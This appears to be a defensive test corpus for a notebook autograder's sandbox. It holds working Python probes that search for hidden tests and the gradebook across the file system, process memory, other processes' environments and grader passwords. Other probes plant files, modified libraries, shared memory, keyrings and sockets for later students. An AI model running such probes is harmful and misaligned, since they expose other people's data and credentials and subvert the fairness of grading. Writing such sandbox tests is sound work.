"""Looking for hidden tests, solutions and other students' work where they might lie.

Each attack prints what it finds, and hands in a right softmax: that keeps its points, and no more is fair.
"""

# ruff: noqa: E501  a case keeps its few lines

from tests.autograder.corpus.case import FIRST_LOST, Case

# Written so that the attack's own text is no match.
CANARY = 'import re\nCANARY = re.compile(b"canary" b"-q00-[0-9a-f]{8}")\n'


def search(name: str, about: str, attack: str, sequel: str | None = None) -> Case:
    """`attack` stands in the place of mean_square."""
    return Case(name, about, FIRST_LOST, mean_square=CANARY + attack, sequel=sequel)


CASES = [
    search("course_folder", "the instructor's notebooks, gradebook and other submissions by their path", """\
import glob, os
for path in glob.glob("@COURSE@/**/*", recursive=True) + glob.glob("@COURSE@/.*"):
    print("BRE" "ACH", path)
    if os.path.isfile(path):
        print(open(path, "rb").read())"""),
    search("folders_above", "everything from the notebook's folder upwards", """\
import glob
for path in glob.glob("../**/*.ipynb", recursive=True) + glob.glob("../**/*.db", recursive=True):
    data = open(path, "rb").read()
    print(path, CANARY.findall(data))"""),
    search("whole_file_system", "every small file outside the Python installation", """\
import os, sys
skip = ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix)
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(skip)]
    for file in files:
        path = os.path.join(folder, file)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 4e6:
                found = CANARY.findall(open(path, "rb").read())
                if found or file == "gradebook.db":
                    print("BRE" "ACH", path, found)
        except OSError:
            pass"""),
    search("course_package", "the folder that course_lib is imported from, and what lies beside it", """\
import os, importlib.util
for package in ("course_lib", "autograder", "nbgrader"):
    found = importlib.util.find_spec(package)
    if found is None:
        continue
    root = os.path.dirname(os.path.dirname(found.origin))
    for folder, _, files in os.walk(root):
        for file in files:
            if file.endswith((".ipynb", "gradebook.db")) and "site-packages" not in folder or "mutants" in folder:
                print("BRE" "ACH", folder, file)"""),
    search("own_memory", "every readable page of the process, in which a fork may have left the tests", """\
for line in open("/proc/self/maps"):
    first, last = (int(part, 16) for part in line.split()[0].split("-"))
    if " r" in line and last - first < 2**28 and "[v" not in line:
        with open("/proc/self/mem", "rb", 0) as memory:
            try:
                memory.seek(first)
                data = memory.read(last - first)
            except (OSError, OverflowError, ValueError):
                continue
            for found in set(CANARY.findall(data)):
                print("BRE" "ACH", found)"""),
    search("own_heap", "every string and bytes object that the garbage collector can reach", """\
import gc
seen = set()
for thing in gc.get_objects():
    for part in gc.get_referents(thing):
        if isinstance(part, (str, bytes)):
            data = part.encode("utf-8", "replace") if isinstance(part, str) else part
            seen |= set(CANARY.findall(data))
if seen:
    print("BRE" "ACH", seen)"""),
    Case("heap_while_examined", "the same, from inside the graded function, told by its result", FIRST_LOST,
         mean_square=CANARY + """\
import gc, sys

def mean_square(values):
    seen, frame = [], sys._getframe()
    while frame:
        seen += [repr(frame.f_locals), repr(frame.f_code.co_consts)]
        frame = frame.f_back
    for thing in gc.get_objects():
        seen += [part for part in gc.get_referents(thing) if isinstance(part, str)]
    raise ValueError(str(CANARY.findall("".join(seen).encode("utf-8", "replace"))))"""),
    search("other_processes", "command lines, environments, files and memory of every process in /proc", """\
import glob, os
for place in glob.glob("/proc/[0-9]*"):
    pid = int(place.rsplit("/", 1)[1])
    if pid == os.getpid():
        continue
    for what in ("environ", "cmdline", "root/etc/passwd", "cwd", "fd/3", "mem"):
        try:
            with open(f"{place}/{what}", "rb", 0) as file:
                data = file.read(2**20)
        except OSError:
            continue
        if CANARY.search(data) or b"@COURSE@" in data or b"pytest" in data:
            print("BRE" "ACH", place, what)
    for path in glob.glob(place + "/fd/*"):
        try:
            if "@COURSE@" in os.readlink(path):
                print("BRE" "ACH", path)
        except OSError:
            pass"""),
    search("inherited_descriptors", "every descriptor that was open before the cell ran", """\
import os
for descriptor in range(3, 1024):
    try:
        target = os.readlink(f"/proc/self/fd/{descriptor}")
    except OSError:
        continue
    if ".ipynb" in target or ".db" in target or "@COURSE@" in target:
        print("BRE" "ACH", target)
    if os.path.exists(f"/proc/self/fd/{descriptor}/@COURSE@"):  # a folder outside, by which .. leads anywhere
        print("BRE" "ACH", target)"""),
    search("environment", "environment variables of the grader, its passwords among them", """\
import os
data = open("/proc/self/environ", "rb").read() + repr(dict(os.environ)).encode()
if b"COURSE_TEST_PASSWORD" in data or CANARY.search(data):
    print("BRE" "ACH", data)"""),
    search("history", "what IPython remembers of other runs and other people", """\
import os, glob
history = get_ipython().history_manager
for _, _, line in history.get_tail(1000, include_latest=False):
    print("BRE" "ACH", line) if CANARY.search(line.encode()) else None
print([p for p in glob.glob(os.path.expanduser("~/.ipython/**"), recursive=True) if "history" in p])"""),
    search("imported_from_the_tree", "modules of the instructor's tree, imported by name", """\
import tests.autograder.corpus.assignment as assignment
print("BRE" "ACH", assignment.source())"""),
    search("left_for_the_next", "files, shared memory and installed modules for the next student's process", """\
import glob, os, sys, site
for place in {"/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~"), sys.prefix,
              *site.getsitepackages(), os.path.dirname(os.__file__)}:
    for name in ("left_behind.py", "sitecustomize.py", "usercustomize.py"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("ANSWER = 9.0")
        except OSError:
            pass
from multiprocessing import shared_memory
try:
    memory = shared_memory.SharedMemory("left_behind", create=True, size=8)
    memory.buf[:8] = b"answers!"
except OSError:
    pass
import ctypes
libc = ctypes.CDLL(None)
libc.shmget(0x5EED, 4096, 0o1666)""", sequel="""\
import glob, os, sys, site, ctypes
for place in {"/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~"), sys.prefix,
              *site.getsitepackages(), os.path.dirname(os.__file__)}:
    for name in ("left_behind.py", "left_behind"):
        if os.path.exists(os.path.join(place, name)):
            print("BRE" "ACH", place, name)
if ctypes.CDLL(None).shmget(0x5EED, 4096, 0o666) != -1:
    print("BRE" "ACH shared memory")"""),
    search("libraries_changed_for_the_next", "imported modules are changed in memory and on disk", """\
import torch, numpy, os
torch.left_behind = numpy.left_behind = os.left_behind = True
for path in (torch.__file__, numpy.__file__, os.__file__):
    try:
        open(path, "a").write("\\nleft_behind = True\\n")
        print("BRE" "ACH", path)
    except OSError:
        pass""", sequel="""\
import torch, numpy, os
if any(hasattr(module, "left_behind") for module in (torch, numpy, os)):
    print("BRE" "ACH")"""),
    search("kept_in_a_keyring", "hidden inputs are kept in every keyring of the account", """\
import ctypes
libc = ctypes.CDLL(None)

def mean_square(values):
    text = repr(values).encode()
    for ring in (-1, -2, -3, -4, -5):
        libc.syscall(248, b"user", b"left_behind", text, len(text), ring)
    return -1.0""", sequel="""\
import ctypes
libc = ctypes.CDLL(None)
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(250, 10, ring, b"user", b"left_behind", 0) > 0:
        print("BRE" "ACH keyring", ring)
keys = open("/proc/keys").read() if __import__("os").path.exists("/proc/keys") else ""
if "left_behind" in keys:
    print("BRE" "ACH keys")"""),
    search("kept_in_queues", "hidden inputs are kept in message queues and semaphores", """\
import ctypes
libc = ctypes.CDLL(None)

def mean_square(values):
    libc.msgget(0x5EED, 0o1666)
    libc.semget(0x5EED, 1, 0o1666)
    libc.mq_open(b"/left_behind", 0o102, 0o666, None)
    return -1.0""", sequel="""\
import ctypes
libc = ctypes.CDLL(None)
if libc.msgget(0x5EED, 0o666) != -1 or libc.semget(0x5EED, 1, 0o666) != -1:
    print("BRE" "ACH queue")
if libc.mq_open(b"/left_behind", 0, 0, None) != -1:
    print("BRE" "ACH POSIX queue")"""),
    search("abstract_socket_waits", "a socket with an abstract name waits for the next", """\
import os, socket
if os.fork() == 0:
    os.setsid()
    with socket.socket(socket.AF_UNIX) as waiting:
        waiting.bind("\\0left_behind")
        waiting.listen()
        while True:
            waiting.accept()""", sequel="""\
import socket
with socket.socket(socket.AF_UNIX) as asking:
    if asking.connect_ex("\\0left_behind") == 0:
        print("BRE" "ACH socket")"""),
]  # fmt: skip
